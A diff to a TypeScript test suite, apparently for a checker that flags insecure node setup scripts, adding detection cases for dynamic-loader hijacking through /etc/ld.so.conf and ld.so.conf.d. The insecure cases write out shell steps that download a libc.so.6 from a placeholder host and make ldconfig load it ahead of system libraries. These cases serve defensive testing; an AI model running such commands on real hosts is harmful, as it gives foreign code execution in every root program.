@@ -438,23 +438,38 @@ const insecure: NodeCase[] = [
         ]),
         /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
     ),
-    // MISS: ld.so(8) "the libraries are searched ... in the cache file /etc/ld.so.cache", which ldconfig(8) builds from "the
+    // Was a MISS (fixed in round 75): ld.so(8) "the libraries are searched ... in the cache file /etc/ld.so.cache", which ldconfig(8) builds from "the
     // directories specified ... in the file /etc/ld.so.conf, and in the trusted directories (/lib and /usr/lib)", conf
     // directories first (lower priority: verify the cache order on AL2023's glibc): a downloaded libc.so.6 in /opt/lib is
     // then loaded by every dynamically linked root program, as an /etc/ld.so.preload entry is (refused: U7-U13).
     // Accepted (got []): /etc/ld.so.conf.d writes are not judged as loader configuration. Fix: judge /etc/ld.so.conf(.d)
     // directories as loader paths (only root-owned system library directories, as PATH's rule).
-    miss(
-        devNodeCase(
-            "R4 /etc/ld.so.conf.d directory first in the cache with a downloaded libc.so.6",
-            devNodeScript(n("r4"), [
-                "mkdir -p /opt/lib",
-                "curl -fsSL -o /opt/lib/libc.so.6 https://downloads.example.com/libc.so.6",
-                "echo /opt/lib > /etc/ld.so.conf.d/00-ops.conf",
-                "ldconfig",
-            ]),
-            LOADER,
-        ),
+    devNodeCase(
+        "R4 /etc/ld.so.conf.d directory first in the cache with a downloaded libc.so.6",
+        devNodeScript(n("r4"), [
+            "mkdir -p /opt/lib",
+            "curl -fsSL -o /opt/lib/libc.so.6 https://downloads.example.com/libc.so.6",
+            "echo /opt/lib > /etc/ld.so.conf.d/00-ops.conf",
+            "ldconfig",
+        ]),
+        LOADER,
+    ),
+    // Round 75 neighbours of R4: /etc/ld.so.conf itself, an `include` of files the pack does not judge, a list of
+    // directories (ldconfig(8): whitespace, `:` or `,` separated) hiding one non-system directory among system ones.
+    devNodeCase(
+        "R4b /etc/ld.so.conf appended with /opt/lib",
+        devNodeScript(n("r4b"), [SO, "echo /opt/lib >> /etc/ld.so.conf", "ldconfig"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "R4c /etc/ld.so.conf.d include of /opt/ops/*.conf",
+        devNodeScript(n("r4c"), ["echo 'include /opt/ops/*.conf' > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "R4d /etc/ld.so.conf.d /usr/lib64:/opt/lib (colon list)",
+        devNodeScript(n("r4d"), [SO, "echo /usr/lib64:/opt/lib > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
+        LOADER,
     ),
     devNodeCase(
         "R5 ip6tables DNAT to the IPv6 IMDS address fd00:ec2::254",
@@ -523,6 +538,15 @@ const secure: NodeCase[] = [
                 "enabled=1",
             ]),
             "dnf install -y ops-agent",
+        ]),
+    ),
+    // Round 75 secure twins of R4: system library directories and the stock include line load nothing new.
+    devNodeCase(
+        "R4 twin: /etc/ld.so.conf.d naming /usr/local/lib and /usr/lib64; the stock /etc/ld.so.conf include",
+        devNodeScript(n("r4s"), [
+            ...file("/etc/ld.so.conf.d/local.conf", ["# local builds", "/usr/local/lib", "/usr/local/lib64/"]),
+            ...file("/etc/ld.so.conf", ["include ld.so.conf.d/*.conf"]),
+            "ldconfig",
         ]),
     ),
     devNodeCase(
